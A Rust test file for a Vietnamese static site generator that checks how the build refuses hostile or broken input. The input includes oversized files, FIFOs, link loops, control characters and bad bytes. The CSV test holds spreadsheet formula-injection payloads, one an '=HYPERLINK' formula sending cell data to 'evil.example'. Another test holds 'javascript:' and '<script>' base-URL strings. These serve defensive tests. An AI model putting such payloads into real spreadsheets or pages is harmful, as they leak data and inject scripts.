//! Hostile and broken input (issue 18): every hole found by probing the
//! build as an attacker or an unlucky office would gets a test here. Each
//! asserts what a user notices: a clear error naming the file and the
//! limit, a report of bounded length, a file not published, no hang.

mod common;

use common::Fixture;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

fn ntm() -> Command {
    Command::new(env!("CARGO_BIN_EXE_ntm-site"))
}

fn small() -> Fixture {
    Fixture::new()
        .file("communes/d/_index.yaml", "name: Huyện D\n")
        .file("communes/d/a.yaml", "name: Xã A\n")
        .file("communes/d/b.yaml", "name: Xã B\n")
        .file(
            "progress/2015-03-06.yaml",
            "communes:\n  d/a: all\n  d/b: [1, 2]\n",
        )
}

/// Runs `f` on another thread and fails the test if it takes longer than
/// `secs` (a hang), instead of hanging the test run.
fn within<T: Send + 'static>(secs: u64, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(Duration::from_secs(secs))
        .unwrap_or_else(|_| panic!("did not finish within {secs} s"))
}

fn news(tags: usize) -> String {
    let list: Vec<String> = (0..tags).map(|i| format!("tag{i}")).collect();
    format!(
        "---\ntitle: Tin\ndate: 2015-03-06\ntags: [{}]\n---\nNội dung.\n",
        list.join(", ")
    )
}

// 1. Memory blow-ups.

#[test]
fn four_thousand_tags_are_refused_quickly_naming_the_limit() {
    let f = small().file("news/tin.md", &news(4000));
    let started = Instant::now();
    let msg = f.messages();
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        msg.contains("news/tin.md:4:7: 4000 tags, over the limit of 50"),
        "{msg}"
    );
    // Fifty tags are still a valid story.
    let ok = small().file("news/tin.md", &news(50));
    assert!(ok.check().is_ok(), "{}", ok.messages());
}

#[test]
fn lists_and_texts_beyond_any_office_are_refused() {
    let sponsors: Vec<String> = (0..5000).map(|i| format!("  - Sở {i}\n")).collect();
    let name = "K".repeat(100_000);
    let f = small()
        .file(
            "communes/d/a.yaml",
            &format!("name: Xã A\nsponsors:\n{}", sponsors.concat()),
        )
        .file("communes/d/b.yaml", &format!("name: {name}\n"));
    let msg = f.messages();
    assert!(
        msg.contains("communes/d/a.yaml:3:3: sponsors has 5,000 entries, over the limit of 1,000"),
        "{msg}"
    );
    assert!(
        msg.contains(
            "communes/d/b.yaml:1:7: name is 100,000 characters long, over the limit of 5,000"
        ),
        "{msg}"
    );
}

#[test]
fn a_file_larger_than_the_limit_is_refused_without_reading_it() {
    let big = format!("name: Xã A\nnote: |\n{}", "  x\n".repeat(2_200_000));
    let f = small().file("communes/d/a.yaml", &big);
    let msg = f.messages();
    assert!(
        msg.contains("communes/d/a.yaml: the file is too large: 8,800,020 bytes, the limit is 8,388,608 bytes"),
        "{msg}"
    );
}

#[test]
fn many_unknown_ids_give_a_short_report() {
    let mut text = String::from("communes:\n");
    for i in 0..60_000 {
        text.push_str(&format!("  d/x{i}: [1]\n"));
    }
    let f = small().file("progress/2015-03-13.yaml", &text);
    let started = Instant::now();
    let d = f.check().err().expect("errors");
    let report = d.render();
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(d.error_count(), 60_000);
    assert!(report.lines().count() < 30, "{report}");
    assert!(
        report.contains("progress/2015-03-13.yaml: and 59,980 more errors of this kind, such as: unknown commune id 'd/x"),
        "{report}"
    );
    assert!(report.ends_with("60000 errors, 0 warnings\n"), "{report}");
    let vi = d.render_in(ntm_site::diag::Lang::Vi);
    assert!(vi.contains("và 59.980 lỗi cùng loại nữa"), "{vi}");
}

// 3. static/ never replaces a generated file.

#[test]
fn static_files_never_replace_generated_ones() {
    for clash in [
        "data/communes.csv",
        "index.html",
        "sitemap.xml",
        "assets/site.js",
        "404.html",
    ] {
        let f = small().file(&format!("static/{clash}"), "stale\n");
        let Err(ntm_site::build::BuildError::Content(d)) = f.build() else {
            panic!("static/{clash} was accepted");
        };
        let report = d.render();
        assert!(
            report.contains(&format!(
                "static/{clash}: would replace '{clash}', which the build makes"
            )),
            "{report}"
        );
        assert!(!f.dir.path().join("output").exists());
    }
    // A file of its own is published.
    let f = small().file("static/logo.txt", "logo\n");
    let out = f.build().unwrap();
    assert_eq!(std::fs::read(out.join("logo.txt")).unwrap(), b"logo\n");
}

// 4. CSV formula injection.

#[test]
fn csv_text_cells_cannot_become_formulas() {
    let f = Fixture::empty()
        .file("site.yaml", common::SITE)
        .file(
            "criteria/old.yaml",
            "name: Bộ\nvalid_from: 2015-01-01\ncriteria:\n  - {number: 1, name: \"=1+2\"}\n  - {number: 2, name: \"@SUM(A1)\"}\n",
        )
        .file("communes/d/_index.yaml", "name: Huyện D\n")
        .file(
            "communes/d/a.yaml",
            "name: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"\ncode: \"-12\"\n",
        )
        .file("communes/d/b.yaml", "name: \"\\t=1+1\"\n")
        .file("communes/d/c.yaml", "name: \"+Xã C\"\n")
        .file("progress/2015-03-06.yaml", "communes:\n  d/a: all\n  d/b: [1]\n  d/c: []\n")
        .file(
            "targets/t.yaml",
            "title: \"-Mục tiêu\"\ndeadline: 2015-12-31\nmeasure: min_met\nvalue: 1\n",
        );
    let out = f.build().unwrap_or_else(|e| panic!("{e:?}"));
    let communes = common::read_csv(&out.join("data/communes.csv"));
    let col = |name: &str| communes[0].iter().position(|h| h == name).unwrap();
    let names: Vec<&str> = communes[1..]
        .iter()
        .map(|r| r[col("name")].as_str())
        .collect();
    assert_eq!(
        names,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "'=1+1",
            "'+Xã C"
        ]
    );
    // Numbers as they are: a code that is a number, counts, dates, ids.
    assert_eq!(communes[1][col("code")], "-12");
    assert_eq!(communes[1][col("id")], "d/a");
    assert_eq!(communes[1][col("met_count")], "2");
    assert_eq!(communes[1][col("latest_date")], "2015-03-06");
    let criteria = common::read_csv(&out.join("data/criteria.csv"));
    assert_eq!(criteria[1][2], "'=1+2");
    assert_eq!(criteria[2][2], "'@SUM(A1)");
    let targets = common::read_csv(&out.join("data/targets.csv"));
    assert_eq!(targets[1][1], "'-Mục tiêu");
}

#[test]
fn spreadsheet_escaping_follows_the_contract() {
    use ntm_site::render::data::text_cell;
    for (cell, want) in [
        ("=1", "'=1"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("Kỳ Thư", "Kỳ Thư"),
        ("2015-08-27", "2015-08-27"),
        ("", ""),
        ("a=b", "a=b"),
    ] {
        assert_eq!(text_cell(cell), want, "{cell:?}");
    }
}

// 5. Only regular files.

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let st = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(st.success());
}

#[cfg(unix)]
#[test]
fn a_fifo_is_refused_not_waited_for() {
    for rel in ["communes/d/c.yaml", "static/pipe.txt", "news/tin/photo.jpg"] {
        let f = small();
        let p = f.root().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        mkfifo(&p);
        let root = f.root();
        let report = within(20, move || {
            match ntm_site::build::check(&root, false, false) {
                Ok(_) => String::new(),
                Err(d) => d.render(),
            }
        });
        assert!(
            report.contains(&format!(
                "{rel}: is not a regular file (a FIFO, a device or a socket)"
            )),
            "{report}"
        );
    }
}

// 9. --cache placement.

#[test]
fn a_cache_inside_the_content_or_the_output_is_refused() {
    let f = small();
    let out = f.build().unwrap();
    let before = std::fs::read_dir(&out).unwrap().count();
    for cache in [
        f.root().join("static/cache"),
        f.root().join(".cache"),
        out.join("images"),
    ] {
        let mut images = ntm_site::imageproc::Options::beside(&out);
        images.cache_dir = cache.clone();
        let opts = ntm_site::build::BuildOptions {
            content: f.root(),
            output: out.clone(),
            base_url: None,
            drafts: false,
            deny_warnings: false,
            pdf: None,
        };
        let err = ntm_site::build::build_with(&opts, &images)
            .err()
            .expect("refused");
        assert!(err.to_string().contains("--cache"), "{err}");
        assert!(
            err.to_string().contains("choose a folder outside it"),
            "{err}"
        );
        assert!(!cache.exists(), "{} was written", cache.display());
    }
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), before);
}

// 10. Control characters.

#[test]
fn control_characters_are_refused_with_their_position() {
    let f = small().file("communes/d/a.yaml", "name: \"Xã\"\nkind: K\0y Thu\n");
    let msg = f.messages();
    assert!(
        msg.contains(
            "communes/d/a.yaml:2:8: a control character U+0000 (not printable) is here; remove it"
        ),
        "{msg}"
    );
    // Decomposed Vietnamese before it: the column is the stored one.
    let f = small().file(
        "news/tin.md",
        "---\ntitle: Ky\u{300} \u{1b}[31m\ndate: 2015-03-06\n---\n",
    );
    let msg = f.messages();
    assert!(
        msg.contains("news/tin.md:2:12: a control character U+001B"),
        "{msg}"
    );
}

// 11. One bad byte, one error; odd names; loops; the base URL.

#[test]
fn one_bad_byte_gives_one_error() {
    let mut text = String::from("communes:\n");
    for _ in 0..3 {
        text.push_str("  d/a: all\n");
    }
    let f = small().bytes("communes/d/a.yaml", b"name: X\xe3 A\n").file(
        "progress/2015-03-13.yaml",
        "communes:\n  d/a: [1]\n  d/b: [1]\n",
    );
    let d = f.check().err().expect("errors");
    let report = d.render();
    assert_eq!(d.error_count(), 1, "{report}");
    assert!(
        report.contains("communes/d/a.yaml: is not UTF-8 text (byte 8, on line 1, is not valid); save it as UTF-8"),
        "{report}"
    );
}

#[test]
fn a_hidden_photo_name_gets_a_plain_answer() {
    let f = small()
        .bytes("models/m/q-.jpg", b"x")
        .file(
            "models/m/index.md",
            "---\ntitle: M\nkind: garden\ncommune: d/a\nstatus: building\nphotos:\n  - {file: ..jpg, caption: Ảnh}\n---\n",
        );
    let msg = f.messages();
    assert!(
        msg.contains(
            "photo '..jpg': a file name beginning with a dot is a hidden file and is not read"
        ),
        "{msg}"
    );
    assert!(!msg.contains("did you mean"), "{msg}");
}

#[cfg(unix)]
#[test]
fn a_link_loop_is_called_a_loop() {
    let f = small();
    let dir = f.root().join("static");
    std::fs::create_dir_all(&dir).unwrap();
    std::os::unix::fs::symlink("b.txt", dir.join("a.txt")).unwrap();
    std::os::unix::fs::symlink("a.txt", dir.join("b.txt")).unwrap();
    let msg = f.messages();
    assert!(msg.contains("static/a.txt: is a link loop"), "{msg}");
    assert!(!msg.contains("link to nothing"), "{msg}");
}

#[test]
fn a_script_base_url_is_refused_on_the_command_line() {
    let f = small();
    let out = f.dir.path().join("output");
    for bad in [
        "javascript:alert(1)//",
        "https://",
        "https://x.org/\"><script>",
        "ftp://x.org/",
    ] {
        let run = ntm()
            .args(["--lang", "en", "build", "--base-url", bad, "--content"])
            .arg(f.root())
            .arg("--output")
            .arg(&out)
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(1), "{bad}");
        let err = String::from_utf8_lossy(&run.stderr);
        assert!(
            err.contains(&format!("--base-url: base URL '{bad}'")),
            "{err}"
        );
        assert!(!out.exists());
    }
    // The same rule in site.yaml.
    let f = small().file(
        "site.yaml",
        "title: T\norganization: O\nbase_url: javascript:alert(1)//\n",
    );
    let msg = f.messages();
    assert!(
        msg.contains("site.yaml:3:11: base URL 'javascript:alert(1)//' must start with 'https://' or 'http://', not 'javascript:'"),
        "{msg}"
    );
}

// 6. Leftovers, the lock and the swap.

#[test]
fn a_build_cleans_what_killed_builds_left() {
    let f = small();
    let out = f.build().unwrap();
    let parent = out.parent().unwrap();
    // A staging folder of a build killed while writing, an old site of one
    // killed during the swap.
    std::fs::create_dir_all(parent.join(".output.new-AbC123/data")).unwrap();
    std::fs::write(parent.join(".output.new-AbC123/data/communes.csv"), "x").unwrap();
    std::fs::create_dir_all(parent.join(".output.old-4242")).unwrap();
    f.build().unwrap();
    let left: Vec<String> = std::fs::read_dir(parent)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with(".output."))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn a_site_left_aside_by_a_killed_swap_is_cleaned() {
    let f = small();
    let out = f.build().unwrap();
    let parent = out.parent().unwrap().to_path_buf();
    // Killed between the two renames of the fallback: no output, the old
    // site aside.
    std::fs::rename(&out, parent.join(".output.old-77")).unwrap();
    let out = f.build().unwrap();
    assert!(out.join("index.html").is_file());
    assert!(!parent.join(".output.old-77").exists());
}

#[test]
fn concurrent_builds_take_turns() {
    let f = small();
    let root = f.root();
    let out = f.dir.path().join("output");
    let runs: Vec<_> = (0..3)
        .map(|_| {
            ntm()
                .args(["build", "--content"])
                .arg(&root)
                .arg("--output")
                .arg(&out)
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for r in runs {
        let o = r.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(0), "{err}");
        // The command line speaks Vietnamese by default.
        assert!(err.contains("đã dựng "), "{err}");
    }
    assert!(out.join("index.html").is_file());
    assert!(out.join("data/communes.csv").is_file());
}
